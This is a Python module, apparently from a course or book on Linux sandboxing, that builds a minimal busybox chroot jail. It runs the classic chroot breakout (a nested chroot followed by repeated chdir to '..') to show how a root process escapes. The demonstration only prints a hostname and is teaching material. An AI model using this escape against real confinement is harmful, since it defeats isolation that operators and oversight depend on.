"""A jail to lock a process into, and the classic way out of a chroot.

:func:`build_jail` makes a tiny root filesystem: the host's static busybox, one link per
command the chapter uses, and an ``/etc/hostname`` that says ``jail``. Whatever a process
reads as ``/etc/hostname`` therefore tells where its root is: ``jail`` inside, the host's name
outside.

:data:`BREAKOUT` is the classic chroot escape, as a short Python program. A chroot only
changes where path lookups *start*; a root process inside can ``chroot`` again into a
subdirectory *without moving its working directory into it* -- its working directory is now
outside its root, and ``..`` from there climbs to the real ``/``. :func:`lend_python` makes
the host's Python readable inside the jail (read-only bind mounts, in the sandbox's own mount
namespace) so that the breakout can run there.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

from ..linux.probe import find_busybox
from ..linux.sandbox import Completed, Sandbox

__all__ = ["APPLETS", "BREAKOUT", "build_jail", "has_host_root", "lend_python",
           "run_breakout"]

APPLETS = ("sh", "ls", "cat", "echo", "hostname", "id", "ps", "mount", "umount", "mkdir",
           "pwd", "sleep", "wc", "grep", "head", "readlink", "true", "uname", "ip", "ipcs",
           "ipcmk", "touch", "rm", "stat", "env")
"""The busybox commands linked into a jail."""

BREAKOUT = """\
import os
os.makedirs("/.escape", exist_ok=True)
os.chroot("/.escape")        # a new root below us -- but the working directory stays where it is
for _ in range(64):
    os.chdir("..")           # so ".." climbs up, past the jail's root, to the real "/"
os.chroot(".")               # and makes it the root again
os.execv("/bin/cat", ["cat", "/etc/hostname"])
"""
"""The classic chroot breakout: print the ``/etc/hostname`` of wherever it ends up."""

PYTHON = "/usr/bin/python3"


def build_jail(path: str | os.PathLike, hostname: str = "jail") -> Path:
    """Make a minimal root filesystem at ``path`` (busybox + links + a few directories)."""
    root = Path(path)
    busybox = find_busybox()
    if busybox is None:
        raise FileNotFoundError("no busybox on this host: apt-get install busybox-static")
    (root / "bin").mkdir(parents=True, exist_ok=True)
    shutil.copy2(busybox, root / "bin" / "busybox")
    for applet in APPLETS:
        link = root / "bin" / applet
        if not link.is_symlink():
            link.symlink_to("busybox")
    for d in ("dev", "proc", "sys", "tmp", "etc", "root"):
        (root / d).mkdir(exist_ok=True)
    (root / "etc" / "hostname").write_text(hostname + "\n")
    (root / "etc" / "motd").write_text("You are inside the jail.\n")
    os.chmod(root, 0o755)
    return root


def lend_python(box: Sandbox, root: str | os.PathLike) -> None:
    """Make the host's Python usable inside the jail at ``root``: bind ``/usr`` (and ``/lib*``
    where they are real directories) read-only into it, in the sandbox's own mount namespace
    (it gets one if it has none), so nothing of it is seen on the host."""
    root = Path(root)
    if "mnt" not in {ns.value for ns in box.new_namespaces()}:
        box.unshare("mnt")
    for d in ("usr", "lib", "lib32", "lib64", "libx32"):
        host, inside = Path("/") / d, root / d
        if host.is_symlink():  # merged /usr: /lib -> usr/lib
            if not inside.is_symlink():
                inside.symlink_to(os.readlink(host))
        elif host.is_dir():
            box.bind(str(host), str(inside), readonly=True)


def has_host_root(pid: int) -> bool:
    """Whether process ``pid``'s root directory is the host's ``/`` (the same directory, not
    just the same name: after ``pivot_root`` a root is called ``/`` too)."""
    inside, host = os.stat(f"/proc/{pid}/root"), os.stat("/")
    return (inside.st_dev, inside.st_ino) == (host.st_dev, host.st_ino)


def run_breakout(box: Sandbox) -> Completed:
    """Run :data:`BREAKOUT` in the sandbox; its stdout is the hostname file it reached.

    Refused for a sandbox whose root is still the host's: the breakout would make its scratch
    directory in the host's ``/``."""
    if has_host_root(box.pid):
        raise RuntimeError("the sandbox's root is the host's /: lock it into a jail first")
    argv = [PYTHON, "-I", "-S", "-c", BREAKOUT]
    try:
        return box.run(argv, timeout=30)
    except FileNotFoundError as e:  # no Python inside: say so as a shell would (127)
        return Completed(argv, 127, "", f"{PYTHON}: {e.strerror}")
